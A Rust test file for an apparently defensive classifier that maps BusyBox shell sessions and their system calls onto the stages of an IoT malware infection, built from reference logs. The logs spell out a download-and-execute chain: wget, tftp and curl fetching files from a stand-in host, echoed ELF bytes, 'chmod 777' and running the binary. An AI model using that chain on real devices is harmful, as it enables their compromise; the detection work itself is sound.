// SPDX-License-Identifier: Apache-2.0
//! The report's Table 1 from reference logs, and stages from system calls alone.

use std::collections::BTreeMap;

use kakoi_assess::stages::{CallClassifier, CallsByLine, Classifier, Table};
use kakoi_model::{Argument, Call, Purpose, Stage};

/// `openat path=/tmp/x flags=O_WRONLY|O_CREAT = 3`, with which process 1 or 2 did it: a notation
/// for logs, so that they can be read.
fn call(text: &str) -> (u32, Call) {
    let (left, result) = text.split_once(" = ").unwrap();
    let mut words = left.split(' ');
    let pid = words.next().unwrap().parse().unwrap();
    let name = words.next().unwrap().to_owned();
    let mut arguments = BTreeMap::new();
    for word in words {
        let (key, value) = word.split_once('=').unwrap();
        let value = match key {
            "flags" | "arguments" => Argument::List(value.split('|').map(str::to_owned).collect()),
            "mode" => Argument::Number(i64::from_str_radix(value, 8).unwrap()),
            _ => value.parse().map_or_else(|_| Argument::Text(value.to_owned()), Argument::Number),
        };
        arguments.insert(key.to_owned(), value);
    }
    (pid, Call { call: name, arguments, result: result.parse().unwrap() })
}

/// Sessions as BusyBox ash runs them: line, then what each of its processes called. The first
/// process is the shell; tools are loaded with their library before they work.
const REFERENCE: &[(&str, &[&str])] = &[
    ("enable", &["1 execve path=/bin/enable arguments=enable = -2"]),
    (
        "sh",
        &[
            "1 fork = 2",
            "2 execve path=/bin/sh arguments=sh = 0",
            "2 openat path=/lib/libc.so.0 flags=O_RDONLY = 3",
            "2 read descriptor=3 = 512",
            "2 close descriptor=3 = 0",
        ],
    ),
    (
        ">/tmp/.x && cd /tmp",
        &[
            "2 openat path=/tmp/.x flags=O_WRONLY|O_CREAT|O_TRUNC mode=666 = 3",
            "2 close descriptor=3 = 0",
            "2 chdir path=/tmp = 0",
        ],
    ),
    (
        "while read i; do echo $i; done < /bin/busybox",
        &[
            "2 open path=/bin/busybox flags=O_RDONLY = 3",
            "2 dup2 descriptor=3 to=0 = 0",
            "2 close descriptor=3 = 0",
            "2 read descriptor=0 = 1",
            "2 write descriptor=1 = 5",
            "2 dup2 descriptor=10 to=0 = 0",
        ],
    ),
    (
        "cat > a",
        &[
            "2 fork = 3",
            "3 openat path=a flags=O_WRONLY|O_CREAT|O_TRUNC = 3",
            "3 dup2 descriptor=3 to=1 = 1",
            "3 execve path=/bin/busybox arguments=cat = 0",
            "3 read descriptor=0 = 512",
            "3 write descriptor=1 = 512",
        ],
    ),
    (
        "hexdump > b",
        &[
            "2 fork = 3",
            "3 openat path=b flags=O_WRONLY|O_CREAT|O_TRUNC = 3",
            "3 dup2 descriptor=3 to=1 = 1",
            "3 execve path=/bin/busybox arguments=hexdump = 0",
            "3 read descriptor=0 = 512",
            "3 write descriptor=1 = 512",
        ],
    ),
    (
        "dd of=c",
        &[
            "2 fork = 4",
            "4 execve path=/bin/busybox arguments=dd|of=c = 0",
            "4 open path=c flags=O_WRONLY|O_CREAT = 3",
            "4 dup2 descriptor=3 to=1 = 1",
            "4 read descriptor=0 = 512",
            "4 write descriptor=1 = 512",
            "4 write descriptor=2 = 30",
        ],
    ),
    (
        "wget http://192.0.2.1/d",
        &[
            "2 fork = 5",
            "5 execve path=/usr/bin/wget arguments=wget|http://192.0.2.1/d = 0",
            "5 openat path=/lib/libc.so.0 flags=O_RDONLY = 3",
            "5 read descriptor=3 = 512",
            "5 close descriptor=3 = 0",
            "5 socket = 3",
            "5 connect descriptor=3 address=192.0.2.1:80 = 0",
            "5 write descriptor=3 = 99",
            "5 read descriptor=3 = 512",
            "5 openat path=d flags=O_WRONLY|O_CREAT|O_TRUNC = 4",
            "5 write descriptor=4 = 512",
            "5 write descriptor=2 = 40",
        ],
    ),
    (
        "tftp -g -r e 192.0.2.1",
        &[
            "2 fork = 6",
            "6 execve path=/bin/busybox arguments=tftp|-g|-r|e|192.0.2.1 = 0",
            "6 socket = 3",
            "6 connect descriptor=3 address=192.0.2.1:69 = 0",
            "6 send descriptor=3 = 20",
            "6 recv descriptor=3 = 516",
            "6 open path=e flags=O_WRONLY|O_CREAT|O_TRUNC = 4",
            "6 write descriptor=4 = 512",
        ],
    ),
    (
        "curl -O http://192.0.2.1/f",
        &[
            "2 fork = 7",
            "7 execve path=/usr/bin/curl arguments=curl|-O|http://192.0.2.1/f = 0",
            "7 socket = 3",
            "7 connect descriptor=3 address=192.0.2.1:80 = -115",
            "7 recvfrom descriptor=3 = 512",
            "7 openat path=f flags=O_WRONLY|O_CREAT = 4",
            "7 write descriptor=4 = 512",
        ],
    ),
    (
        "echo -ne '\\x7fELF' >> g",
        &[
            "2 openat path=g flags=O_WRONLY|O_CREAT|O_APPEND = 3",
            "2 dup2 descriptor=3 to=1 = 1",
            "2 close descriptor=3 = 0",
            "2 write descriptor=1 = 4",
            "2 dup2 descriptor=9 to=1 = 1",
        ],
    ),
    (
        "chmod 777 g",
        &[
            "2 fork = 8",
            "8 execve path=/bin/chmod arguments=chmod|777|g = 0",
            "8 fchmodat path=g mode=777 = 0",
        ],
    ),
    (
        "cp /bin/echo h",
        &[
            "2 fork = 9",
            "9 execve path=/bin/busybox arguments=cp|/bin/echo|h = 0",
            "9 openat path=/bin/echo flags=O_RDONLY = 3",
            "9 openat path=h flags=O_WRONLY|O_CREAT mode=755 = 4",
            "9 read descriptor=3 = 512",
            "9 write descriptor=4 = 512",
        ],
    ),
    (
        "sh i.sh",
        &[
            "2 fork = 10",
            "10 execve path=/bin/sh arguments=sh|i.sh = 0",
            "10 openat path=i.sh flags=O_RDONLY = 3",
            "10 read descriptor=3 = 20",
        ],
    ),
    ("./g", &["2 fork = 11", "11 execve path=./g arguments=./g = 0"]),
];

fn reference_table() -> String {
    let mut classifier = Classifier::new();
    let mut calls = CallsByLine::default();
    let mut lines = Vec::new();
    for (number, (text, made)) in (1..).zip(REFERENCE) {
        lines.extend(classifier.push(u64::from(number), text.as_bytes()));
        for (pid, call) in made.iter().map(|text| call(text)) {
            calls.push(number, pid, &call);
        }
    }
    lines.extend(classifier.finish());
    let mut table = Table::new();
    for line in &lines {
        table.add(line, &calls.take(u32::try_from(line.number).unwrap()));
    }
    table.render()
}

#[test]
fn the_reports_table_comes_out_of_reference_logs() {
    let expected = "\
| Stage | Command | Main syscalls |
|---|---|---|
| (1) Start a Linux shell | sh | execve |
|  | vendor-specific shell start command | execve |
| (2) Search for a writable directory | output redirection and cd | openat, chdir |
| (3) Obtain environment information of the target | input redirection and echo | openat, read, write |
| (4)-(a) Download file | cat, hexdump, dd | openat, read, write |
|  | wget, tftp, curl | socket, connect, openat, write |
| (4)-(b) Write binary by echo | output redirection, echo | openat, write |
| (5) Grant exec permission to file | chmod | fchmodat |
|  | cp (copy an existing executable to inherit its exec bit) | openat, read, write |
| (6)-(a) Run shell script | sh | execve |
| (6)-(b) Run binary file | the created program | execve |
";
    assert_eq!(reference_table(), expected);
}

#[test]
fn each_line_of_the_reference_logs_has_its_stage_from_calls_alone() {
    use Stage::{S1, S2, S3, S4a, S4b, S5, S6a, S6b};
    let expected = [
        None,
        Some(S1),
        Some(S2),
        Some(S3),
        Some(S4a),
        Some(S4a),
        Some(S4a),
        Some(S4a),
        Some(S4a),
        Some(S4a),
        Some(S4b),
        Some(S5),
        Some(S5),
        Some(S6a),
        Some(S6b),
    ];
    let mut classifier = CallClassifier::new();
    for ((text, made), expected) in REFERENCE.iter().zip(expected) {
        let purposes = made
            .iter()
            .map(|text| call(text))
            .filter_map(|(pid, call)| classifier.push(pid, &call).purpose);
        let furthest = purposes.filter_map(Purpose::stage).max();
        assert_eq!(furthest, expected, "{text}");
    }
}

fn purposes(made: &[&str]) -> Vec<Option<Purpose>> {
    let mut classifier = CallClassifier::new();
    let calls = made.iter().map(|text| call(text));
    calls.map(|(pid, call)| classifier.push(pid, &call).purpose).collect()
}

#[test]
fn an_applet_that_busybox_runs_by_running_itself_is_no_payload() {
    let applet = purposes(&[
        "1 fork = 2",
        "2 execve path=/proc/self/exe arguments=cat|/etc/hostname = 0",
        "2 openat path=/etc/hostname flags=O_RDONLY = 3",
    ]);
    assert_eq!(applet, [None, None, Some(Purpose::Stage(Stage::S3))]);
    let payload = purposes(&[
        "1 fork = 2",
        "2 execve path=./bot arguments=./bot = 0",
        "2 execve path=/proc/self/exe arguments=./bot = 0",
    ]);
    assert_eq!(payload.last(), Some(&Some(Purpose::Stage(Stage::S6b))));
}

#[test]
fn what_a_shell_reads_by_itself_is_no_survey() {
    let prompt =
        purposes(&["1 openat path=/etc/passwd flags=O_RDONLY = 3", "1 read descriptor=3 = 70"]);
    assert_eq!(prompt, [None, None]);
    let redirected =
        purposes(&["1 openat path=/etc/passwd flags=O_RDONLY = 3", "1 dup2 descriptor=3 to=0 = 0"]);
    assert_eq!(redirected[1], Some(Purpose::Stage(Stage::S3)));
    let tool = purposes(&[
        "1 execve path=/bin/cat arguments=cat|/etc/passwd = 0",
        "1 openat path=/etc/passwd flags=O_RDONLY = 3",
    ]);
    assert_eq!(tool[1], Some(Purpose::Stage(Stage::S3)));
}

#[test]
fn a_script_that_is_read_to_be_run_is_no_survey() {
    let by_shell = purposes(&[
        "1 openat path=m flags=O_WRONLY|O_CREAT mode=666 = 3",
        "1 write descriptor=3 data=x = 1",
        "2 execve path=/bin/sh arguments=sh|m = 0",
        "2 openat path=m flags=O_RDONLY = 3",
    ]);
    assert_eq!(by_shell[3], None);
    let by_itself =
        purposes(&["2 execve path=./m arguments=./m = 0", "2 openat path=./m flags=O_RDONLY = 3"]);
    assert_eq!(by_itself, [Some(Purpose::Stage(Stage::S6b)), None]);
}

#[test]
fn a_copy_in_the_shell_itself_inherits_the_bit() {
    let copy = purposes(&[
        "1 fork = 2",
        "2 openat path=/bin/echo flags=O_RDONLY = 3",
        "2 openat path=upnp flags=O_WRONLY|O_CREAT|O_TRUNC mode=755 = 4",
        "2 sendfile descriptor=4 from=3 size=16777216 = 1000",
    ]);
    assert_eq!(copy[3], Some(Purpose::Stage(Stage::S5)));
}

#[test]
fn only_two_commands_of_fcntl_make_a_descriptor() {
    // F_SETFD of descriptor 3 returns 0, which leads to the terminal all the same.
    let made = |command: &str| {
        purposes(&[
            "1 openat path=/tmp/x flags=O_WRONLY|O_CREAT = 3",
            command,
            "1 write descriptor=0 data=wget = 4",
        ])
    };
    assert_eq!(made("1 fcntl descriptor=3 command=2 = 0")[2], None);
    assert!(made("1 fcntl descriptor=3 command=0 = 0")[2].is_some());
}

#[test]
fn a_table_without_calls_says_so_and_rows_of_other_commands_follow() {
    let mut classifier = Classifier::new();
    let mut table = Table::new();
    for (number, line) in (1..).zip(["uname -a", "sh", "install -m 755 a b"]) {
        classifier.push(number, line.as_bytes()).iter().for_each(|line| table.add(line, &[]));
    }
    classifier.finish().iter().for_each(|line| table.add(line, &[]));
    let text = table.render();
    assert!(text.contains("| (1) Start a Linux shell | sh | not recorded |"), "{text}");
    assert!(
        text.contains("| (3) Obtain environment information of the target | uname |"),
        "{text}"
    );
    assert!(text.contains("| (5) Grant exec permission to file | install |"), "{text}");
}
